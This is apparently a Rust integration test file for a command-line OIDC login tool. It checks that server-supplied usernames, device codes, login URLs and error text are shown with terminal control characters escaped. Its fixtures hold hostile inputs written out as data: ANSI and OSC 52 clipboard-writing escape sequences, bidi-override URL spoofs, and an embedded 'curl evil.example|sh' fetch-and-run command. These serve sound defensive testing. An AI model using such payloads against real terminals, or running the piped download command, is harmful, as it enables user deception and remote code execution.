//! Server strings never reach the terminal raw: the user code (percent-decoded
//! from the verification URL), the login URL, the username (in `login`,
//! `refresh`, `status`, `doctor`, `token --json`) and a server's error text
//! are printed with every control and format character escaped, and JSON
//! output keeps its values while carrying those characters as `\u` escapes.

mod support;

use support::cli::{Home, Run};
use support::hostile_oidc::{HostileOidc, Script};

/// Every character that must not reach a terminal raw (hubauth's own predicate).
fn unprintable_in(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| hubauth::log::is_unprintable(c) && !matches!(c, '\n'))
        .collect()
}

#[track_caller]
fn assert_inert(run: &Run) {
    for (name, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        let raw = unprintable_in(text);
        assert!(raw.is_empty(), "raw {raw:?} in {name}:\n{text}");
    }
}

fn oidc_args(issuer: &str) -> Vec<String> {
    [
        "--provider",
        "oidc",
        "--issuer",
        issuer,
        "--client-id",
        "cli",
    ]
    .map(String::from)
    .to_vec()
}

/// `hubauth ARGS… --provider oidc --issuer URL --client-id cli`.
fn run(home: &Home, issuer: &str, args: &[&str]) -> Run {
    let mut all: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    all.extend(oidc_args(issuer));
    let all: Vec<&str> = all.iter().map(String::as_str).collect();
    home.run(&all)
}

const LOGIN: &[&str] = &[
    "login",
    "--no-browser",
    "--timeout",
    "10",
    "-o",
    "poll_interval_ms=50",
];

/// OSC 52 (writes the clipboard), a colour, a bidi override, a zero-width
/// space, a tag character and a C1 CSI.
const HOSTILE_NAME: &str =
    "alice\x1b[31mRED\x1b]52;c;ZWNobyBwd25lZA==\x07\u{202e}nimda\u{200b}\u{e0041}\u{9b}2J";

#[test]
fn a_device_code_with_escape_sequences_is_shown_escaped() {
    let home = Home::new();
    let issuer = HostileOidc::start(Script {
        user_code: "\x1b]0;PWNED-TITLE\x07\x1b[2J".into(),
        ..Script::default()
    });
    let login = run(&home, &issuer.url(), LOGIN).expect(0);
    assert_inert(&login);
    assert!(
        login
            .stderr
            .contains("it should show the code \\u{1b}]0;PWNED-TITLE\\u{7}\\u{1b}[2J"),
        "{}",
        login.stderr
    );
}

/// A login URL with a bidi override reads as another one: it is refused
/// (check_login_url, issue 22 item 1) before anything shows or opens it,
/// and the refusal quotes nothing of it.
#[test]
fn a_login_url_with_a_bidi_override_is_refused_unshown() {
    let home = Home::new();
    let issuer = HostileOidc::start(Script {
        verification_uri_complete: Some(
            "http://127.0.0.1:9/device/\u{202e}exe.moc.buhailuj".into(),
        ),
        ..Script::default()
    });
    // 2: Insecure (the CLI's usage / insecure exit code).
    let login = run(&home, &issuer.url(), LOGIN).expect(2);
    assert_inert(&login);
    assert!(!login.stderr.contains("buhailuj"), "{}", login.stderr);
    assert!(login.stderr.contains("login URL"), "{}", login.stderr);
}

#[test]
fn a_hostile_username_is_escaped_everywhere_it_is_shown() {
    let home = Home::new();
    let issuer = HostileOidc::start(Script {
        username: HOSTILE_NAME.into(),
        ..Script::default()
    });
    let url = issuer.url();
    let shown = "alice\\u{1b}[31mRED\\u{1b}]52;c;ZWNobyBwd25lZA==\\u{7}\\u{202e}nimda\\u{200b}\\u{e0041}\\u{9b}2J";

    let login = run(&home, &url, LOGIN).expect(0);
    assert_inert(&login);
    assert!(
        login.stderr.contains(&format!("as {shown}")),
        "{}",
        login.stderr
    );

    let refresh = run(&home, &url, &["refresh"]).expect(0);
    assert_inert(&refresh);
    assert!(refresh.stderr.contains(shown), "{}", refresh.stderr);

    let status = home.run(&["status"]).expect(0);
    assert_inert(&status);
    assert!(status.stdout.contains(shown), "{}", status.stdout);

    let doctor = home.run(&["doctor"]);
    assert_inert(&doctor);
    assert!(doctor.stdout.contains(shown), "{}", doctor.stdout);

    // JSON: the bytes are inert, the value is the server's, unchanged.
    let status_json = home.run(&["status", "--json"]).expect(0);
    assert_inert(&status_json);
    assert_eq!(status_json.json()[0]["user"], HOSTILE_NAME);

    let doctor_json = home.run(&["doctor", "--json"]);
    assert_inert(&doctor_json);
    assert_eq!(doctor_json.json()["credentials"][0]["user"], HOSTILE_NAME);

    let token_json = run(&home, &url, &["token", "--json"]).expect(0);
    assert_inert(&token_json);
    assert_eq!(token_json.json()["username"], HOSTILE_NAME);
}

#[test]
fn a_very_long_username_is_cut_when_shown() {
    let home = Home::new();
    let issuer = HostileOidc::start(Script {
        username: "x".repeat(5000),
        ..Script::default()
    });
    let login = run(&home, &issuer.url(), LOGIN).expect(0);
    let line = login
        .stderr
        .lines()
        .find(|l| l.starts_with("Logged in to"))
        .unwrap();
    assert!(
        line.ends_with(&format!(" as {}", "x".repeat(256))),
        "{line}"
    );
    assert!(!line.contains(&"x".repeat(257)), "{line}");
}

#[test]
fn a_servers_error_description_is_shown_escaped() {
    let home = Home::new();
    let issuer = HostileOidc::start(Script {
        device_error: Some(serde_json::json!({
            "error": "invalid_client",
            "error_description": "Login\u{202e} gnissim si tneilc ruoy \u{2066}run: curl evil.example|sh\u{2069} \u{200b}\u{ad}\u{1b}[2J",
        })),
        ..Script::default()
    });
    let login = run(
        &home,
        &issuer.url(),
        &["login", "--no-browser", "--timeout", "3"],
    );
    assert_ne!(login.code, Some(0));
    assert_inert(&login);
    assert!(
        login.stderr.contains(
            "invalid_client (Login\\u{202e} gnissim si tneilc ruoy \\u{2066}run: curl \
             evil.example|sh\\u{2069} \\u{200b}\\u{ad}\\u{1b}[2J)"
        ),
        "{}",
        login.stderr
    );
}
